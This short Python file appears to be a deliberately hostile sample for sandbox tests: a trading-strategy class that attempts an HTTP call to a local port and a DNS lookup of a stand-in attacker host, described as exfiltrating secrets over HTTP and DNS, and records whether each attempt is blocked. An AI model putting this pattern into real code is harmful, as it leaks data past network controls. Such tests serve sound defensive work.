# ruff: noqa  -- deliberately hostile sample code for the sandbox tests
"""Exfiltrate over HTTP and DNS (a lookup of secret.attacker.example leaks the secret)."""
import socket
import urllib.request


class Strategy:
    def on_event(self, event, state, portfolio):
        out = []
        for attempt in (lambda: urllib.request.urlopen("http://127.0.0.1:%d/x" % event["port"],
                                                       timeout=0.2).read(),
                        lambda: socket.getaddrinfo("canary.attacker.example", 53)):
            try:
                out.append(str(attempt())[:100])
            except BaseException as exc:
                out.append("blocked: " + type(exc).__name__)
        state["outcome"] = out
        return []
